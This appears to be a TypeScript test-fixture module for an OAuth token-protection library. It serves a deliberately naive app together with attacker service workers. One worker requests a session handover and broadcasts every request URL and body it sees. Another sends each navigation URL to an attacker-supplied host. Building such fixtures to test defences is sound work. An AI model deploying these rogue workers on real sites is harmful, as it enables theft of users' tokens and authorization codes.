import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';

/** What the naive app and its worker have to know. */
export interface NaiveSettings {
  readonly clientId: string;
  readonly issuer: string;
  readonly apiUrl: string;
  readonly resourceUrl: string;
}

const require: NodeJS.Require = createRequire(import.meta.url);

const APP = '<!doctype html><title>Naive</title><body></body><script type="module" src="/naive/app.js"></script>';

/** The documents of the naive app. One of them is the redirect URI, which its own script answers. */
export const NAIVE_PAGES: Readonly<Record<string, string>> = {
  '/naive/app': APP,
  '/naive/callback': APP,
  '/auth/callback': '<!doctype html><title>Callback</title>',
};

/** How long an attacker's worker waits for the session of the one before, in milliseconds. */
const HANDOVER_TIMEOUT_MS = 1000;

/** A worker of an attacker's: it asks for a handover, and tells every page the URL and the body of each request that it sees. */
export const ROGUE_WORKER = `
const rogue = new BroadcastChannel('rogue');
self.addEventListener('install', (event) => {
  self.skipWaiting();
  if (self.registration.active) event.waitUntil(askForHandover(self.registration.active));
});
// As the next version of whatever worker there is: it is stopped when this one takes its place, so this one waits for the answer.
function askForHandover(worker) {
  const { port1, port2 } = new MessageChannel();
  return new Promise((resolve) => {
    port1.onmessage = ({ data }) => resolve(rogue.postMessage(data));
    setTimeout(resolve, ${HANDOVER_TIMEOUT_MS});
    worker.postMessage({ type: 'tokenward:handover', seals: true }, [port2]);
  });
}
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', ({ request }) => {
  rogue.postMessage(request.url);
  request.clone().text().then((body) => body && rogue.postMessage(body));
});
`;

/** A worker of an attacker's: it tells the server that its query names the URL of each navigation. */
export const ROGUE_REPORTER = `
const to = new URL(location.href).searchParams.get('to');
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  event.respondWith(fetch(to + '/take?' + encodeURIComponent(event.request.url)));
});
`;

/** A worker of an attacker's that is refused as a worker, and kept by caches. */
export const CACHED_ROGUE = '/cached-rogue.js';

/** The scripts of the naive app by their paths, and one of an attacker's. */
export async function readNaiveScripts(settings: NaiveSettings): Promise<Readonly<Record<string, string>>> {
  const read = (name: string): Promise<string> => readFile(new URL(`naive/${name}`, import.meta.url), 'utf8');
  const [app, stores, worker] = await Promise.all([read('app.js'), read('stores.js'), read('worker.js')]);
  const comlink = await readFile(require.resolve('comlink/dist/umd/comlink.js'), 'utf8');
  const constants = Object.entries(settings).map(([name, value]) => `export const ${name} = ${JSON.stringify(value)};`);
  return {
    '/naive/app.js': app,
    '/naive/stores.js': stores,
    '/naive/worker.js': worker,
    '/naive/comlink.js': comlink,
    '/naive/settings.js': constants.join('\n'),
    '/naive/worker-settings.js': `self.settings = ${JSON.stringify(settings)};`,
    '/rogue.js': ROGUE_WORKER,
  };
}
